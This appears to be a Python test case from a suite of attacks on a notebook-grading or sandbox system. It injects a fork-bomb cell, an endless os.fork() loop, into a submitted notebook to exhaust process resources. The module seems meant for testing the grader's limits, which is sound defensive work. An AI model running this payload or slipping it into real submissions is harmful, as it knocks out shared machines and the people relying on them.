"""Forks for ever.

There are a few dozen processes at the most, and they end with the cell or with the submission.
"""

from attacks import Files, Notebook, with_cell

KIND = "exhaustion"

CELL = r"""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
